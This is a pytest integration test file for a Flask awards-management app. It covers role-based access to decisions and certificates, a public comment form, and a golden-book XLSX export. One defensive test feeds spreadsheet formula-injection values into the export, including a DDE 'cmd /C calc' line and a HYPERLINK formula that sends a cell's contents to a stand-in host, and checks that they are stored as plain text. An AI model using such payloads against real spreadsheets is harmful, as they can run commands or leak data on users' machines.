"""Decision pages: who sees them, who may issue and annul, who downloads a certificate; the public
posting page and its comment form; the golden book as a page and as XLSX."""

from __future__ import annotations

import io
import re
from datetime import datetime
from typing import Any

import pytest
from flask import Flask
from openpyxl import load_workbook

from recognition.database import local_today
from recognition.decisions import services
from recognition.decisions.models import Decision
from recognition.extensions import db
from recognition.nominations.models import Nomination
from recognition.units.settings import settings_for
from tests.conftest import Client
from tests.decisions.helpers import (
    ISSUE_DAY,
    certificates_of,
    client_for,
    drafted,
    in_english,
    issued,
    page_text,
    passed,
    passed_person,
    person_award,
    posting_award,
    stored,
)
from tests.workflow.helpers import Scene, error_page, flashes, new_hamlet

pytestmark = pytest.mark.integration

FORBIDDEN = "You do not have access to this page"


@pytest.fixture
def clients(app: Flask, scene: Scene) -> dict[str, Client]:
    """One logged-in client per role of the scene (built lazily)."""

    class Clients(dict[str, Client]):
        def __missing__(self, role: str) -> Client:
            self[role] = client_for(app, scene.users[role])
            return self[role]

    return Clients()


def committed(value: Any) -> Any:
    db.session.commit()
    return value


def actions(html: str) -> set[str]:
    """The decision actions a page offers as forms."""
    return set(re.findall(r'action="/decisions/\d+/(\w+)"', html))


# --- list and detail ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("role", "status"),
    [
        ("nominator", 403),
        ("other_nominator", 403),
        ("council_member", 403),
        ("secretariat", 200),
        ("chair", 200),
        ("admin", 200),
    ],
)
def test_the_decision_list(
    scene: Scene, clients: dict[str, Client], role: str, status: int
) -> None:
    decision = committed(drafted(scene, [passed(scene, name="Ấp Trong Danh Sách")]))

    response = clients[role].get("/decisions/")

    shown = f'href="/decisions/{decision.id}"' in response.get_data(as_text=True)
    assert (response.status_code, shown) == (status, status == 200)


@pytest.mark.parametrize(
    ("role", "status"),
    [
        ("nominator", 403),
        ("other_nominator", 403),
        ("council_member", 403),
        ("other_secretariat", 403),
        ("secretariat", 200),
        ("chair", 200),
        ("admin", 200),
    ],
)
def test_the_decision_page(
    scene: Scene, clients: dict[str, Client], role: str, status: int
) -> None:
    decision = committed(issued(scene, 1))

    pages = [
        clients[role].get(f"/decisions/{decision.id}{suffix}") for suffix in ("", "/decision.pdf")
    ]

    assert [p.status_code for p in pages] == [status, status]


def test_an_unknown_decision_is_404(clients: dict[str, Client]) -> None:
    assert clients["secretariat"].get("/decisions/987654").status_code == 404


def test_only_the_chair_is_offered_issue_and_annul(
    scene: Scene, clients: dict[str, Client]
) -> None:
    draft = drafted(scene, [passed(scene)])
    done = committed(issued(scene, 1))

    offered = {
        (role, state): actions(clients[role].get(f"/decisions/{d.id}").get_data(as_text=True))
        for role in ("secretariat", "chair", "admin")
        for state, d in (("draft", draft), ("issued", done))
    }

    assert offered == {
        ("secretariat", "draft"): set(),
        ("secretariat", "issued"): set(),
        ("chair", "draft"): {"issue"},
        ("chair", "issued"): {"annul"},
        ("admin", "draft"): set(),
        ("admin", "issued"): set(),
    }


def test_the_chair_waits_for_the_posting_to_end(scene: Scene, clients: dict[str, Client]) -> None:
    decision = drafted(scene, [passed(scene, award=posting_award(scene))])
    services.start_posting(decision, actor=scene.secretariat, today=local_today())
    committed(decision)

    page = clients["chair"].get(f"/decisions/{decision.id}").get_data(as_text=True)

    assert (actions(page), "it can be issued after the posting ends" in page_text(page)) == (
        set(),
        True,
    )


# --- issue and annul ------------------------------------------------------------------------------


@pytest.mark.parametrize("role", ["secretariat", "admin"])
def test_only_the_chair_may_post_issue(scene: Scene, clients: dict[str, Client], role: str) -> None:
    decision = committed(drafted(scene, [passed(scene)]))

    response = clients[role].post_form(f"/decisions/{decision.id}/issue")

    db.session.expire_all()
    assert (
        response.status_code,
        error_page(response.get_data(as_text=True))[0],
        decision.state,
        decision.number,
    ) == (403, FORBIDDEN, "draft", None)


def test_a_nominator_cannot_post_issue(scene: Scene, clients: dict[str, Client]) -> None:
    decision = committed(drafted(scene, [passed(scene)]))

    response = clients["nominator"].post_form(f"/decisions/{decision.id}/issue")

    assert response.status_code == 403


def test_issue_without_a_csrf_token_is_refused(scene: Scene, clients: dict[str, Client]) -> None:
    decision = committed(drafted(scene, [passed(scene)]))

    response = clients["chair"].post(f"/decisions/{decision.id}/issue")

    db.session.expire_all()
    assert (response.status_code, decision.state) == (400, "draft")


def test_the_chair_issues_and_the_certificates_are_stored(
    scene: Scene, clients: dict[str, Client]
) -> None:
    decision = committed(drafted(scene, [passed(scene), passed(scene)]))

    response = clients["chair"].post_form(f"/decisions/{decision.id}/issue")

    db.session.expire_all()
    certificates = certificates_of(decision)
    assert (
        response.status_code,
        decision.state,
        decision.reference,
        decision.issued_on,
        [(c.serial, c.pdf_key is not None, c.pdf_sha256 is not None) for c in certificates],
    ) == (302, "issued", "01/QĐ-UBND", local_today(), [(1, True, True), (2, True, True)])


def test_annulment_by_the_chair_needs_a_reason(scene: Scene, clients: dict[str, Client]) -> None:
    decision = committed(issued(scene, 1))
    chair = in_english(clients["chair"])
    url = f"/decisions/{decision.id}/annul"

    refused = chair.post_form(url, {"reason": ""}, follow_redirects=True)
    db.session.expire_all()
    state_after_refusal = decision.state
    by_secretariat = clients["secretariat"].post_form(url, {"reason": "Sai sót"})
    done = chair.post_form(url, {"reason": "Hồ sơ không trung thực"})

    db.session.expire_all()
    assert (
        ("danger", "Please give a reason.") in flashes(refused.get_data(as_text=True)),
        state_after_refusal,
        by_secretariat.status_code,
        done.status_code,
        decision.state,
        [c.state for c in certificates_of(decision)],
    ) == (True, "issued", 403, 302, "annulled", ["revoked"])


def test_drafting_through_the_page(scene: Scene, clients: dict[str, Client]) -> None:
    chosen = [passed(scene, name="Ấp Được Chọn"), passed(scene, name="Ấp Bỏ Qua")]
    committed(chosen)
    url = f"/decisions/new/{scene.body.id}"

    by_chair = clients["chair"].post_form(url, {"nomination_id": [chosen[0].id]})
    by_secretariat = clients["secretariat"].post_form(url, {"nomination_id": [chosen[0].id]})

    decision = db.session.get(Decision, int(by_secretariat.headers["Location"].rsplit("/", 1)[1]))
    assert (by_chair.status_code, by_secretariat.status_code) == (403, 302)
    assert decision is not None and [line.recipient for line in decision.lines] == ["Ấp Được Chọn"]


def test_only_the_secretariat_edits_the_texts(scene: Scene, clients: dict[str, Client]) -> None:
    decision = committed(drafted(scene, [passed(scene)]))
    form = {
        "title": "Về việc tặng Giấy khen năm 2026",
        "legal_bases": "Căn cứ Luật Thi đua, khen thưởng;",
        "articles": "Điều 1. Tặng Giấy khen.",
        "recipients": "- Lưu: VT.",
        "signer_title": "CHỦ TỊCH",
        "signer_name": "Nguyễn Văn Chủ",
    }

    by_chair = clients["chair"].post_form(f"/decisions/{decision.id}", form)
    by_secretariat = clients["secretariat"].post_form(f"/decisions/{decision.id}", form)

    db.session.expire_all()
    assert (by_chair.status_code, by_secretariat.status_code, decision.title) == (
        403,
        302,
        "Về việc tặng Giấy khen năm 2026",
    )


# --- certificate download -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("role", "status"),
    [
        ("nominator", 200),
        ("secretariat", 200),
        ("chair", 200),
        ("admin", 200),
        ("other_nominator", 403),
        ("other_secretariat", 403),
    ],
)
def test_who_downloads_a_certificate(
    scene: Scene, clients: dict[str, Client], role: str, status: int
) -> None:
    decision = issued(scene, 1)
    certificate = committed(stored(decision)[0])

    response = clients[role].get(f"/certificates/{certificate.id}.pdf")

    assert (response.status_code, response.data.startswith(b"%PDF-")) == (status, status == 200)


def test_anonymous_download_goes_to_the_login(scene: Scene, client: Client) -> None:
    certificate = committed(stored(issued(scene, 1))[0])

    response = client.get(f"/certificates/{certificate.id}.pdf")

    assert (response.status_code, response.headers["Location"].split("?")[0]) == (302, "/login")


def test_an_unknown_certificate_is_404(clients: dict[str, Client]) -> None:
    assert clients["secretariat"].get("/certificates/987654.pdf").status_code == 404


def test_a_certificate_without_a_stored_pdf_is_rendered_on_first_download(
    scene: Scene, clients: dict[str, Client]
) -> None:
    certificate = committed(certificates_of(issued(scene, 1))[0])

    first = clients["nominator"].get(f"/certificates/{certificate.id}.pdf")
    second = clients["nominator"].get(f"/certificates/{certificate.id}.pdf")

    db.session.expire_all()
    assert (first.status_code, first.data == second.data, certificate.pdf_key is not None) == (
        200,
        True,
        True,
    )


# --- public posting -------------------------------------------------------------------------------


def posted(scene: Scene) -> Decision:
    nominations: list[Nomination] = [
        passed(scene, name="Ấp Công Khai", award=posting_award(scene, days=7)),
    ]
    decision = drafted(scene, nominations)
    services.start_posting(decision, actor=scene.secretariat, today=local_today())
    return committed(decision)


def test_the_posted_list_is_public(scene: Scene, client: Client) -> None:
    decision = posted(scene)

    response = in_english(client).get(f"/posted/{decision.id}")

    text = page_text(response.get_data(as_text=True))
    assert (
        response.status_code,
        "Ấp Công Khai" in text,
        "Send a comment" in text,
    ) == (200, True, True)


@pytest.mark.parametrize("state", ["draft", "issued", "annulled", "unknown"])
def test_a_list_that_is_not_posted_is_404(scene: Scene, client: Client, state: str) -> None:
    if state == "draft":
        decision_id = committed(drafted(scene, [passed(scene)])).id
    elif state == "unknown":
        decision_id = 987654
    else:
        decision = issued(scene, 1)
        if state == "annulled":
            services.annul_decision(decision, actor=scene.chair, reason="Sai sót")
        decision_id = committed(decision).id

    assert [
        client.get(f"/posted/{decision_id}").status_code,
        client.post_form(f"/posted/{decision_id}", {"text": "Ý kiến"}).status_code,
    ] == [404, 404]


def test_a_comment_is_stored_and_shown_to_the_staff(
    scene: Scene, client: Client, clients: dict[str, Client]
) -> None:
    decision = posted(scene)

    response = in_english(client).post_form(
        f"/posted/{decision.id}",
        {"name": "Người dân", "contact": "0909000000", "text": "Ấp này <b>chưa</b> xứng đáng"},
        follow_redirects=True,
    )

    db.session.expire_all()
    staff_page = clients["secretariat"].get(f"/decisions/{decision.id}").get_data(as_text=True)
    assert (
        flashes(response.get_data(as_text=True)),
        [(f.name, f.text) for f in decision.feedback],
        "Ấp này &lt;b&gt;chưa&lt;/b&gt; xứng đáng" in staff_page,
    ) == (
        [("success", "Thank you. Your comment has been sent to the secretariat.")],
        [("Người dân", "Ấp này <b>chưa</b> xứng đáng")],
        True,
    )


def test_comments_are_rate_limited(scene: Scene, client: Client) -> None:
    decision = posted(scene)
    url = f"/posted/{decision.id}"

    statuses = [client.post_form(url, {"text": f"Ý kiến số {i}"}).status_code for i in range(1, 11)]
    blocked = client.post_form(url, {"text": "Ý kiến số 11"})
    still_readable = client.get(url)

    db.session.expire_all()
    assert (statuses, blocked.status_code, still_readable.status_code, len(decision.feedback)) == (
        [302] * 10,
        429,
        200,
        10,
    )


def test_posts_that_store_no_comment_do_not_use_up_the_address_s_budget(
    scene: Scene, client: Client
) -> None:
    """A list that is not posted, or a comment sent back for its errors, stores nothing: an
    office behind one address keeps its ten comments an hour."""
    decision = posted(scene)
    url = f"/posted/{decision.id}"

    misses = [
        client.post_form(f"/posted/{decision.id + 1000 + i}", {"text": "Ý kiến"}) for i in range(12)
    ]
    empty = [client.post_form(url, {"text": ""}) for _ in range(12)]
    saved = client.post_form(url, {"text": "Ý kiến thật"})

    assert (
        {response.status_code for response in misses},
        {response.status_code for response in empty} - {200, 400},
        saved.status_code,
    ) == ({404}, set(), 302)


# --- the golden book ------------------------------------------------------------------------------


def golden_book(scene: Scene) -> list[str]:
    first = issued(scene, 2, names=["Ấp Vàng Một", "Ấp Vàng Hai"])
    second = issued(scene, 1, names=["Ấp Vàng Ba"])
    services.annul_decision(second, actor=scene.chair, reason="Sai sót")
    committed(first)
    return [c.public_serial for d in (first, second) for c in certificates_of(d)]


def test_the_golden_book_page_lists_every_certificate(
    scene: Scene, clients: dict[str, Client]
) -> None:
    serials = golden_book(scene)

    response = in_english(clients["secretariat"]).get(f"/decisions/golden-book/{scene.body.id}")

    rows = re.findall(
        r"<tr><td class=\"text-nowrap\" data-label=\"No.\">(.*?)</td>"
        r"<td class=\"text-nowrap\" data-label=\"Lookup code\"><code>(.*?)</code>"
        r"</td><td class=\"card-title-cell\">(.*?)</td>",
        response.get_data(as_text=True),
    )
    # The book's running number in the year, then the lookup code (which holds it too).
    assert (response.status_code, rows) == (
        200,
        [
            ("1/2026", serials[0], "Ấp Vàng Hai"),
            ("2/2026", serials[1], "Ấp Vàng Một"),
            ("3/2026", serials[2], "Ấp Vàng Ba"),
        ],
    )
    assert "3 certificates, of which 1 revoked" in response.get_data(as_text=True)


def test_the_golden_book_as_xlsx(scene: Scene, clients: dict[str, Client]) -> None:
    serials = golden_book(scene)

    response = clients["chair"].get(
        f"/decisions/golden-book/{scene.body.id}", query_string={"format": "xlsx"}
    )

    book = load_workbook(io.BytesIO(response.data), read_only=True)
    rows = [tuple(row) for row in book.active.iter_rows(min_row=4, values_only=True)]
    # The decision's day is a date cell (sortable, filterable), shown as Vietnamese write it.
    formats = [row[7].number_format for row in book.active.iter_rows(min_row=4)]
    book.close()
    assert formats == ["DD/MM/YYYY"] * 3
    # The serial is the lookup code; the book's running number in the year follows the year;
    # the golden-book number is the one the certificate prints.
    assert [(r[0], r[1], r[2], r[3], r[5], r[6], r[7], r[8], r[9]) for r in rows] == [
        (
            serials[0],
            2026,
            1,
            "Ấp Vàng Hai",
            "Tập thể tiêu biểu",
            "01/QĐ-UBND",
            datetime(2026, 3, 4),
            "Hiệu lực",
            1,
        ),
        (
            serials[1],
            2026,
            2,
            "Ấp Vàng Một",
            "Tập thể tiêu biểu",
            "01/QĐ-UBND",
            datetime(2026, 3, 4),
            "Hiệu lực",
            2,
        ),
        (
            serials[2],
            2026,
            3,
            "Ấp Vàng Ba",
            "Tập thể tiêu biểu",
            "02/QĐ-UBND",
            datetime(2026, 3, 4),
            "Đã thu hồi",
            1,
        ),
    ]


HYPERLINK = '=HYPERLINK("http://x"&C4,"Bấm để xem")'


def test_the_golden_book_as_xlsx_keeps_every_text_from_users_a_plain_string(
    scene: Scene, clients: dict[str, Client]
) -> None:
    # docs/reliability.md, "Exports": a name typed as a formula stays the text it is.
    scene.body.name = "=1+2"
    scene.commune_a.name = "\t=1+1"
    award = person_award(scene)
    award.name = "-2+3+cmd|' /C calc'!A0"
    person = passed_person(
        scene, award, name=HYPERLINK, position="@SUM(1+1)", unit=new_hamlet(scene, "+1+1")
    )
    decision = drafted(scene, [person, passed(scene, name="=1+1"), passed(scene, name="Ấp Vàng")])
    services.issue_decision(decision, actor=scene.chair, today=ISSUE_DAY)
    committed(decision)

    response = clients["chair"].get(
        f"/decisions/golden-book/{scene.body.id}", query_string={"format": "xlsx"}
    )

    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert (sheet["A1"].data_type, sheet["A1"].value) == ("s", "SỔ VÀNG KHEN THƯỞNG — =1+2")
    assert sorted(
        tuple(
            (sheet.cell(row, column).data_type, sheet.cell(row, column).value)
            for column in (4, 5, 6)
        )
        for row in range(4, sheet.max_row + 1)
    ) == [
        (("s", "'=1+1"), ("s", "'\t=1+1"), ("s", "Tập thể tiêu biểu")),
        # The person's commune is named after the hamlet (the district's decision).
        (
            ("s", "'" + HYPERLINK),
            ("s", "'@SUM(1+1), +1+1, \t=1+1"),
            ("s", "'-2+3+cmd|' /C calc'!A0"),
        ),
        (("s", "Ấp Vàng"), ("s", "'\t=1+1"), ("s", "Tập thể tiêu biểu")),
    ]


@pytest.mark.parametrize("role", ["nominator", "council_member", "other_secretariat"])
def test_the_golden_book_is_for_the_body_staff(
    scene: Scene, clients: dict[str, Client], role: str
) -> None:
    golden_book(scene)

    statuses = [
        clients[role].get(f"/decisions/golden-book/{scene.body.id}", query_string=q).status_code
        for q in ({}, {"format": "xlsx"})
    ]

    assert statuses == [403, 403]


def test_a_refused_draft_keeps_the_texts_typed(scene: Scene, clients: dict[str, Client]) -> None:
    """Issue 14: a refusal keeps the user on the page with what they typed."""
    decision = committed(drafted(scene, [passed(scene)]))
    before = decision.articles
    form = {
        "title": "",
        "legal_bases": "Căn cứ Luật Thi đua, khen thưởng;",
        "articles": "Điều 1. Tặng Giấy khen cho 3 tập thể.",
        "recipients": "- Lưu: VT.",
        "signer_title": "CHỦ TỊCH",
        "signer_name": "Nguyễn Văn Chủ",
    }

    response = clients["secretariat"].post_form(f"/decisions/{decision.id}", form)

    html = response.get_data(as_text=True)
    articles = re.search(r'<textarea[^>]*name="articles"[^>]*>(.*?)</textarea>', html, re.S)
    db.session.expire_all()
    assert response.status_code == 200
    assert articles and articles.group(1).strip() == "Điều 1. Tặng Giấy khen cho 3 tập thể."
    assert decision.articles == before


# --- the body's settings --------------------------------------------------------------------------

SETTINGS_FIELDS = (
    "superior_name",
    "issuer_name",
    "signer_office",
    "signer_title",
    "signer_name",
    "place_name",
    "number_suffix",
    "legal_bases",
    "recipients",
    "paper",
)

SUFFIX_MESSAGE = (
    "Use letters and digits, with one hyphen between the parts, e.g. QĐ-UBND or QĐ-HĐTĐKT."
)


@pytest.mark.parametrize(
    ("suffix", "saved"),
    [
        ("QĐ-UBND", True),
        ("QĐ-HĐTĐKT", True),
        ("QĐ-TTg", True),
        ("QĐ UBND//", False),
        ("QĐ--UBND", False),
        ("-QĐ-UBND", False),
        ("QĐ-UBND-", False),
        ("QĐ/UBND", False),
    ],
)
def test_the_number_suffix_is_letters_and_digits_joined_by_hyphens(
    scene: Scene, clients: dict[str, Client], suffix: str, saved: bool
) -> None:
    secretariat = in_english(clients["secretariat"])
    form = {name: getattr(settings_for(scene.body), name) for name in SETTINGS_FIELDS}

    response = secretariat.post_form(
        f"/decisions/settings/{scene.body.id}", {**form, "number_suffix": suffix}
    )
    under = re.search(
        r'<div class="invalid-feedback d-block" id="number_suffix-error">([^<]*)<',
        response.get_data(as_text=True),
    )
    db.session.expire_all()

    assert (
        response.status_code,
        under.group(1) if under else "",
        settings_for(scene.body).number_suffix,
    ) == ((302, "", suffix) if saved else (200, SUFFIX_MESSAGE, "QĐ-UBND"))


def test_the_awarded_dossier_links_its_certificate_for_whoever_may_download_it(
    scene: Scene, clients: dict[str, Client]
) -> None:
    decision = issued(scene, 1)
    certificate = committed(stored(decision)[0])
    dossier = certificate.line.nomination_id
    link = f'href="/certificates/{certificate.id}.pdf"'

    pages = {
        role: clients[role].get(f"/nominations/{dossier}")
        for role in ("nominator", "secretariat", "other_nominator")
    }

    assert {
        role: (page.status_code, link in page.get_data(as_text=True))
        for role, page in pages.items()
    } == {
        "nominator": (200, True),
        "secretariat": (200, True),
        "other_nominator": (403, False),
    }
    shown = re.search(
        r'id="certificates">(.*?)</ul>', pages["nominator"].get_data(as_text=True), re.S
    )
    assert shown is not None
    assert certificate.public_serial in shown.group(1)
    assert decision.reference in shown.group(1)
